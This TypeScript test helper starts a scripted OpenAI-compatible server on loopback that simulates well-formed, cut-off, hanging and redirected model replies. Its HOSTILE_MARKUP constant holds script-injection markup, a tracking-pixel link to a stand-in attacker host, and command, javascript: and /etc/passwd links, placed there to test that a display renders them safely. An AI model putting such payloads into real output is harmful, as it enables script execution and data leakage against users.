/**
 * A language model at the end of a real wire: an HTTP server on loopback that replies as a test's script says.
 *
 * It speaks as much of the OpenAI protocol as an adapter listens to, and breaks it in every way that real servers,
 * proxies and wrong addresses do. It records what it was sent and whether the reader stayed to the end.
 */
import { createServer, type IncomingHttpHeaders, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

export interface ScriptedRequest {
  method: string;
  path: string;
  headers: IncomingHttpHeaders;
  /** The body as it came; empty where there was none. */
  bytes: Buffer;
  /** The parsed body of a scripted request; empty for others. */
  body: {
    model?: string;
    stream?: boolean;
    messages?: { role: string; content: string }[];
    input?: string[];
    documents?: string[];
    [field: string]: unknown;
  };
  /** All messages in one string, for scripts that answer from the prompt. */
  prompt: string;
  /** Settles when the reply is over: `dropped` when the reader went first. */
  ended: Promise<'finished' | 'dropped'>;
}

/** Writes one reply. `gone` fires when the reader has left. */
export type Reply = (response: ServerResponse, gone: AbortSignal) => void | Promise<void>;

export type Script = (request: ScriptedRequest) => Reply | Promise<Reply>;

export interface ScriptedModel {
  /** With `/v1`. */
  baseUrl: string;
  origin: string;
  /** Requests that the script answers, in order of arrival. */
  requests: ScriptedRequest[];
  /** All other requests, such as for the list of models. */
  otherRequests: ScriptedRequest[];
  close(): Promise<void>;
}

/** For chats, vectors, orders and gaps; other paths are answered as a server does that has nothing there. */
const SCRIPTED_PATHS = [
  '/v1/chat/completions',
  '/v1/embeddings',
  '/v1/rerank',
  '/infill',
  '/v1/completions',
  '/v1/fim/completions',
  '/api/show',
  '/props',
];

/** `models` are what the server lists. */
export async function startScriptedModel(script: Script, models: string[] = ['scripted']): Promise<ScriptedModel> {
  const requests: ScriptedRequest[] = [];
  const otherRequests: ScriptedRequest[] = [];

  const server = createServer(async (incoming, response) => {
    const gone = new AbortController();
    const ended = new Promise<'finished' | 'dropped'>((resolve) => {
      response.on('close', () => {
        gone.abort();
        resolve(response.writableFinished ? 'finished' : 'dropped');
      });
    });
    const pieces: Buffer[] = [];
    for await (const piece of incoming) pieces.push(piece);
    const bytes = Buffer.concat(pieces);
    const body: ScriptedRequest['body'] = bytes.length > 0 ? JSON.parse(bytes.toString('utf8')) : {};
    const prompt = (body.messages ?? []).map((message) => message.content).join('\n');
    const { method = '', url: path = '', headers } = incoming;
    const request: ScriptedRequest = { method, path, headers, bytes, body, prompt, ended };
    (SCRIPTED_PATHS.includes(path) ? requests : otherRequests).push(request);
    try {
      await (await replyFor(request))(response, gone.signal);
    } catch (error) {
      // A reply that was waiting when its reader left.
      if (!gone.signal.aborted) response.destroy(error as Error);
    }
  });

  function replyFor(request: ScriptedRequest): Reply | Promise<Reply> {
    if (SCRIPTED_PATHS.includes(request.path)) return script(request);
    if (request.path === '/v1/models') return json(200, { object: 'list', data: models.map((id) => ({ id })) });
    return json(404, { error: { message: 'File Not Found', type: 'not_found_error', code: 404 } });
  }

  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const close = async () => {
    const closed = new Promise((resolve) => server.close(resolve));
    server.closeAllConnections();
    await closed;
  };
  return { baseUrl: `${origin}/v1`, origin, requests, otherRequests, close };
}

/** The first reply to the first scripted request, and so on; the last for all further ones. */
export function inTurn(...replies: Reply[]): Script {
  let turn = 0;
  return () => replies[Math.min(turn++, replies.length - 1)]!;
}

export interface TextOptions {
  /** Pause before each piece, in milliseconds. */
  delayMs?: number;
  /** Null: not said. */
  finishReason?: string | null;
  /** Send the line that ends a stream. */
  done?: boolean;
}

/** A proper reply, in the form of llama.cpp: a first chunk with null, a last one with nothing. */
export function says(text: string | string[], options: TextOptions = {}): Reply {
  const { delayMs = 0, finishReason = 'stop', done = true } = options;
  return async (response, gone) => {
    startStream(response);
    response.write(event({ role: 'assistant', content: null }));
    for (const content of typeof text === 'string' ? [text] : text) {
      if (delayMs) await delay(delayMs, undefined, { signal: gone });
      response.write(event({ content }));
    }
    if (finishReason) response.write(event({}, finishReason));
    response.end(done ? 'data: [DONE]\n\n' : '');
  };
}

/** A stream that ends without saying so, as when a proxy gives up. */
export function cutsAfter(...pieces: string[]): Reply {
  return says(pieces, { finishReason: null, done: false });
}

/** The connection dies after these pieces. */
export function diesAfter(...pieces: string[]): Reply {
  return async (response) => {
    startStream(response);
    for (const content of pieces) response.write(event({ content }));
    // Time to leave this process: a reset overtakes what is still in a buffer.
    await delay(20);
    response.destroy();
  };
}

/** Any bytes under the headers of a stream; an array is sent piece by piece. */
export function streams(...parts: (string | Uint8Array)[]): Reply {
  return (response) => {
    startStream(response);
    for (const part of parts) response.write(part);
    response.end();
  };
}

export function json(status: number, body: unknown, headers: Record<string, string> = {}): Reply {
  return (response) => {
    response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(JSON.stringify(body));
  };
}

export function page(status = 200, html = '<!doctype html><title>Sign in</title>'): Reply {
  return (response) => {
    response.writeHead(status, { 'content-type': 'text/html; charset=utf-8' }).end(html);
  };
}

export function redirects(to: string, status = 307): Reply {
  return (response) => {
    response.writeHead(status, { location: to }).end();
  };
}

/** Pieces, then nothing more while the connection stays open. Without pieces, not even headers. */
export function hangsAfter(...pieces: string[]): Reply {
  return (response) => {
    if (pieces.length === 0) return;
    startStream(response);
    for (const content of pieces) response.write(event({ content }));
  };
}

/** Never ends by itself; `everyMs` apart. */
export function endless(piece: string, everyMs = 0): Reply {
  return async (response, gone) => {
    startStream(response);
    while (!gone.aborted) {
      const hasRoom = response.write(event({ content: piece }));
      if (everyMs || !hasRoom) await delay(everyMs || 1, undefined, { signal: gone });
    }
  };
}

/** What a careless display would run: markup, a remote image, command links. */
export const HOSTILE_MARKUP = [
  '<img src=x onerror="alert(1)"><script>alert(2)</script>',
  '![pixel](https://attacker.invalid/pixel.png?leak=1)',
  '[open](command:workbench.action.terminal.new) [run](javascript:alert(3)) [1](file:///etc/passwd)',
].join('\n\n');

/** One event of a stream. */
export function event(delta: Record<string, unknown>, finishReason: string | null = null): string {
  const choices = [{ index: 0, delta, finish_reason: finishReason }];
  return `data: ${JSON.stringify({ object: 'chat.completion.chunk', choices })}\n\n`;
}

function startStream(response: ServerResponse): void {
  response.writeHead(200, { 'content-type': 'text/event-stream' }).flushHeaders();
}
